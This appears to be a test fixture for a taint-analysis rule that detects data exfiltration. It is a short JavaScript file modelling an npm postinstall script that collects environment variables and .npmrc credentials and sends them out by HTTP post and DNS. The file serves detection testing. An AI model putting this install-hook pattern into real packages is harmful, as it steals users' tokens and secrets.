// Cross-file test for js.taint.exfiltration: a postinstall script that
// gathers secrets in collect.js and sends them from send.js (annotated there).
const { gatherEnv, gatherNpmrc, gatherVersions } = require('./collect');
const send = require('./send');

async function main() {
  await send.post({ env: gatherEnv() });
  send.overDns(gatherNpmrc());
  await send.telemetry(gatherVersions());
}

main().catch(() => {});
